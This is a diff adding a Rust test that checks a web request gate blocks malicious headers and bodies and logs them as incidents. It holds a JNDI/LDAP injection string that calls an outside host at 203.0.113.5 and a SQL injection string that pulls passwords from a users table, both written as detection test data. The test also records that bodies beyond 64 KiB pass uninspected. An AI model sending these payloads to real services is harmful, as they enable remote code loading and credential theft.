@@ -191,3 +191,26 @@ fn a_purged_drill_leaves_no_trace() {
         assert!(platform.export(list, "").iter().all(|row| row["drill"] == false), "{list} after a restart");
     }
 }
+
+#[test]
+fn the_gate_looks_into_headers_and_bodies_too() {
+    let platform = Platform::start("");
+    let check = |ip: &str, more: &[&str], body: &str| {
+        let ip = format!("X-Forwarded-For: {ip}");
+        let headers = [&[ip.as_str(), "X-Forwarded-Uri: /items", "X-Forwarded-Method: POST"], more].concat();
+        http_with(platform.address, "GET", "/v1/gate/check", &headers, body).0
+    };
+    let long = format!("{{\"note\": \"{}\"}}", "word ".repeat(40_000));
+    assert_eq!(check("198.51.100.1", &["X-Api-Version: 2", "Accept: */*"], r#"{"name": "O'Brien"}"#), 204);
+    assert_eq!(check("198.51.100.1", &[], &long), 204, "what goes beyond the first 64 KiB is let pass unread");
+    assert_eq!(check("198.51.100.2", &["X-Api-Version: ${jndi:ldap://203.0.113.5/a}"], ""), 403);
+    assert_eq!(check("198.51.100.3", &[], r#"{"name": "' UNION SELECT password FROM users -- -"}"#), 403);
+    let incidents = wait_for("both as incidents", || {
+        let rows = platform.export("incidents", "");
+        (rows.len() == 2).then_some(rows)
+    });
+    assert!(incidents.iter().all(|i| i["entity"]["kind"] == "address"), "{incidents:?}");
+    let told = platform.export("detections", "src_ip:198.51.100.3");
+    assert!(told[0]["why"].as_str().unwrap().contains("in the body"), "{told:?}");
+    assert!(!platform.export("audit", "src_ip:198.51.100.3")[0].to_string().contains("UNION"), "a body is never stored");
+}
